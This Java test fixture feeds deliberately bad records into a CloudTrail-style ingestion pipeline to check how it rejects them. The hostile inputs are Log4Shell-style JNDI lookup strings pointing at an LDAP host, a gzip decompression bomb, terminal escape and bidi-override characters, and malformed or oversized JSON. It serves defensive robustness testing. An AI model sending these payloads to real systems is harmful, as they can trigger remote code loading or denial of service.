package io.sharetrail.cluster;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.util.Arrays;
import java.util.Map;
import java.util.Random;
import java.util.TreeMap;
import java.util.zip.GZIPOutputStream;

/**
 * Records that nobody asked for: garbage, bombs and lies, and what the job ought to make of each.
 */
final class Poison {

  private static final int EACH = 5;

  /** Before all that matters. */
  private static final String TIME = "2025-02-26T00:00:00Z";

  private static final int LARGE = 5_000_000;
  private static final int BOMB = 200 << 20;

  private final Random random;
  private final Map<String, Integer> reasons = new TreeMap<>();
  private Topics topics;
  private String topic;
  private int partitions;

  Poison(long seed) {
    random = new Random(seed);
  }

  /** How many dead letters of each reason it ought to make. */
  Map<String, Integer> reasons() {
    return reasons;
  }

  int deadLetters() {
    return reasons.values().stream().mapToInt(Integer::intValue).sum();
  }

  /** Produces all of it, some of each kind into partitions by chance. */
  void into(Topics into, String name, int of) {
    topics = into;
    topic = name;
    partitions = of;
    for (int i = 0; i < EACH; i++) {
      garbage();
      lies();
    }
    large();
    bomb();
  }

  private void garbage() {
    byte[] noise = new byte[300];
    random.nextBytes(noise);
    for (int i = 0; i < noise.length; i++) {
      noise[i] |= (byte) 0x80; // no compression begins so, nor JSON, and no line ends
    }
    letter("not-json", noise);
    letter("truncated", text("{\"eventVersion\":\"1.11\",\"userIdentity\":{\"type\":\"IAM"));
    letter("malformed-json", text("{\"eventVersion\":\"1.11\",,}"));
    letter("not-cloudtrail", text("{\"hello\":\"world\"}"));
    letter("too-deep", text("[".repeat(5_000) + "]".repeat(5_000)));
    nothing(null);
    nothing(new byte[0]);
    nothing(text(" \n"));
  }

  /** Events that say what cannot be, or what others may not read as it is. */
  private void lies() {
    nothing(text(event(TIME, "DescribeRegions", "${jndi:ldap://192.0.2.1/a}", "192.0.2.9")));
    nothing(text(event(TIME, "${jndi:ldap://192.0.2.1/a}", "curl", "${env:HOME}")));
    nothing(text(event(TIME, "Describe\\u0000\\u001b[31mRegions\\u202e", "\\u0007", "\\u0000")));
  }

  /** Events of the year 2099. They move no time: what is behind them would be late. */
  void fromTheFuture() {
    for (int i = 0; i < EACH; i++) {
      nothing(text(event("2099-01-01T00:00:00Z", "DescribeRegions", "curl", "192.0.2.9")));
    }
  }

  private static String event(String time, String name, String agent, String address) {
    return MixedTrail.closing(Instant.parse(time))
        .replace("\"DescribeRegions\"", "\"" + name + "\"")
        .replace("\"userAgent\":\"ec2.amazonaws.com\"", "\"userAgent\":\"" + agent + "\"")
        .replace(
            "\"sourceIPAddress\":\"ec2.amazonaws.com\"", "\"sourceIPAddress\":\"" + address + "\"");
  }

  private void large() {
    letter("malformed-json", text("{\"x\":" + "y".repeat(LARGE) + "}"));
    String agent = "curl/" + "z".repeat(LARGE);
    nothing(text(event(TIME, "DescribeRegions", agent, "192.0.2.9")));
  }

  private void bomb() {
    letter("inflates-too-far", gzip(new byte[1 << 20], BOMB >> 20));
    byte[] damaged = gzip(text(event(TIME, "DescribeRegions", "curl", "192.0.2.9")), 1);
    letter("damaged-compression", Arrays.copyOf(damaged, damaged.length / 2));
  }

  private static byte[] gzip(byte[] bytes, int times) {
    ByteArrayOutputStream packed = new ByteArrayOutputStream();
    try (GZIPOutputStream gzip = new GZIPOutputStream(packed)) {
      for (int i = 0; i < times; i++) {
        gzip.write(bytes);
      }
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    }
    return packed.toByteArray();
  }

  private void letter(String reason, byte[] value) {
    reasons.merge(reason, 1, Integer::sum);
    nothing(value);
  }

  private void nothing(byte[] value) {
    topics.produce(topic, random.nextInt(partitions), key(), value);
  }

  private String key() {
    return random.nextBoolean() ? null : "${jndi:ldap://192.0.2.1/key}\u0000";
  }

  private static byte[] text(String text) {
    return text.getBytes(StandardCharsets.UTF_8);
  }
}
